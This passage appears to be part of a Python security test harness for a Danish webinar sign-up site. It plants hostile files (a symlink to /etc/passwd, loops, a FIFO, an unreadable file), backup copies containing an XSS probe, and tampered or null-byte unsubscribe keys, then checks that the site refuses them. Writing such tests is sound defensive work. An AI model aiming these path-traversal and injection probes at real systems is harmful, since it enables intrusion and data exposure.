    """What runs, or leads to somewhere odd, in a file that is a folder of files."""
    there = ""
    with zipfile.ZipFile(io.BytesIO(data)) as folder:
        for name in folder.namelist():
            if name.endswith((".xhtml", ".opf", ".ncx", ".rels", ".xml")):
                text = folder.read(name).decode()
                xml.etree.ElementTree.fromstring(text)
                there += text
                yield from (f"{name} has {found}" for found in of_markup(text))
                yield from (f"{name} leads to {goal}" for goal in re.findall(r'Target="([^"]*)" TargetMode="External"', text) if not re.match(r"(https?|mailto):", goal))
    if there.count("En prøve") < len(names):
        yield "lacks chapters"


def files(trial, site, folder):
    """Files that are none, or not of the kind that they seem to be."""
    news = folder.root / "nyheder"
    passwd, loop, fifo = news / "forsoeg-f-link.md", news / "forsoeg-f-ring.md", news / "forsoeg-f-roer.md"
    passwd.symlink_to("/etc/passwd")
    loop.symlink_to(loop.name)
    os.mkfifo(fifo)
    (news / "forsoeg-f-mappering").symlink_to(".")
    (news / "forsoeg-f-mappe.md").mkdir()
    folder.write("nyheder/forsoeg-f-mappe.md/forsoeg-f-inde.md", page_of("Tekst."))
    folder.write("nyheder/forsoeg-f-tom.md", "")
    folder.write("nyheder/forsoeg-f-utf16.md", page_of("Tekst.").encode("utf-16"))
    folder.write("nyheder/forsoeg-f-bytes.md", page_of("Tekst.").encode() + b"\xff\xfe\xc0\xaf")
    folder.write("nyheder/forsoeg-f-bom.md", b"\xef\xbb\xbf" + page_of("Tekst.").encode())
    folder.write("nyheder/forsoeg-f-stor.md", page_of("Ord og ord.\n" * 40_000))
    folder.write("nyheder/forsoeg-f-lukket.md", page_of("Tekst."))
    (news / "forsoeg-f-lukket.md").chmod(0)
    for left in ("forsoeg-f-kopi.md~", ".forsoeg-f-kopi.md.swp", "#forsoeg-f-kopi.md#", "forsoeg-f-kopi.md.bak", "Forsoeg F Kopi.md", "forsoeg-f-kopi.html"):
        folder.write(f"nyheder/{left}", page_of("<script>alert(1)</script>"))
    folder.read_by("nyheder/forsoeg-f-sidst.md", "/nyheder/forsoeg-f-sidst")
    for name, statuses in (("link", GONE), ("ring", GONE), ("roer", GONE), ("mappering/forsoeg-f-bom", GONE), ("mappe", GONE), ("mappe.md/forsoeg-f-inde", GONE), ("inde", GONE), ("tom", GONE), ("utf16", GONE), ("stor", GONE), ("kopi", GONE),
                           ("kopi.md~", GONE), ("kopi.html", GONE), ("bytes", (200, 404)), ("lukket", (200, 404)), ("bom", SHOWN)):
        trial.expect(f"file {name}", statuses, lambda: site.ask("GET", f"/nyheder/forsoeg-f-{name}"))


def links(trial, site, mails):
    """The links in a person's mail, pressed by programs that look for harm, by mail programs, and twice."""
    mine, other = (page_in_mail(trial, site, mails, name) for name in ("laila", "bo"))
    key = mine.rsplit("/", 1)[1]
    before = site.states()
    for step in ("", "/afmelding", "/fortryd", "/oplysninger", "/sletning", "/ikke-mig"):
        for method in ("GET", "HEAD"):
            trial.expect(f"{method} {step} by a scanner", (200, 303, 404), lambda: site.ask(method, mine + step, [("User-Agent", "BingPreview/1.0b")]))
    for tail in (".", ",", ")", "%3E"):
        trial.expect(f"a key with {tail}", (200, 301, 302, 404), lambda: site.ask("GET", mine + tail))
    for wrong in (key[:-1], key + "A", key.swapcase(), key[::-1], "%00" + key, key + "%00", key * 40):
        for method in ("GET", "POST"):
            trial.expect(f"{method} with a key that is not quite right", (400, 404, 405, 414, 429), lambda: site.ask(method, f"{mine.rsplit('/', 1)[0]}/{wrong}"))
    for method, step in (("GET", ""), ("POST", "/afmelding"), ("POST", "/sletning")):
        trial.expect(f"{method} {step} with somebody else's key", (400, 404, 429), lambda: site.ask(method, other.rsplit("/", 1)[0] + "/" + key + step))
    trial.expect("the key of one thing for another", (400, 404, 429), lambda: site.ask("GET", mine.replace("/tilmelding/", "/deltag/")))
    if site.states() != before:
        trial.faults.append("looking at links, or pressing wrong ones, changed something")
    again = [trial.expect("cancelled, and once more", TAKEN, lambda: site.ask("POST", mine + "/afmelding")) for _ in range(2)]
    if again[0].header("location") != again[1].header("location") or site.states() == before:
        trial.faults.append("cancelling twice is not as cancelling once")
    trial.expect("deleted", (303, 410), lambda: site.ask("POST", mine + "/sletning"))
    for method, step in (("GET", ""), ("POST", "/fortryd"), ("POST", "/sletning")):
        trial.expect(f"{method} {step} when it is deleted", (303, 410), lambda: site.ask(method, mine + step))


def page_in_mail(trial, site, mails, name):
    trial.expect("a sign-up with a mail", TAKEN, lambda: site.post(site.filled(Email=f"{name}@vaert.example")))
    until = time.monotonic() + 60
    while time.monotonic() < until:
        for file in pathlib.Path(mails).glob("*.eml"):
            mail = email.message_from_bytes(file.read_bytes(), policy=email.policy.default)
            if f"{name}@vaert.example" in (mail["To"] or "") and (found := re.search(r"/tilmelding/[0-9a-f]{32}/[\w-]+", mail.get_body(("plain",)).get_content())):
                return found[0]
        time.sleep(0.1)
    raise TimeoutError("no mail came")



def of_log(path):
    ours = re.compile(r"/(tilmelding|deltag|samtykke)/[0-9a-f]{32}|prove\d+\.example|vaert\d+|Åse Ærø|Ågård|fremmed\.example|uden%?4?0?@?noegle|CfDJ8")
    for number, line in enumerate(pathlib.Path(path).read_text("utf-8", "replace").splitlines(), 1):
        try:
            json.loads(line)
        except ValueError:
            yield f"line {number} of the log is no JSON: {line[:100]!r}"
        if found := ours.search(line):
            yield f"line {number} of the log has {found[0]!r}"


def main():
    asked = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    asked.add_argument("base")
    asked.add_argument("webinar")
    asked.add_argument("--database")
    asked.add_argument("--log")
    asked.add_argument("--content", help="a copy of the content, that the site reads: hostile files are left in it")
    asked.add_argument("--mail", help="where the site writes its mails (Mail:Transport is Folder)")
    asked.add_argument("--seconds", type=float, default=2.0, help="how long an answer may take")
    words = asked.parse_args()
    site = Site(words.base, words.webinar, words.database)
    trial = Trial(site, words.seconds)
    for part in (forms, addresses, requests):
        part(trial, site)
    if words.content:
        folder = Folder(words.content, site)
        texts(trial, site, folder)
        files(trial, site, folder)
    if words.mail:
        links(trial, site, words.mail)
    trial.expect("the site is still there", SHOWN, lambda: site.ask("GET", "/health/live"))
    trial.expect("a sign-up like any other", TAKEN, lambda: site.post(site.filled()))
    faults = [*trial.faults, *(of_log(words.log) if words.log else [])]
    print("\n".join([*faults, f"{trial.count} inputs, {len(faults)} faults, the slowest answer {trial.slowest:.2f} s"]))
    return 1 if faults else 0


if __name__ == "__main__":
    sys.exit(main())
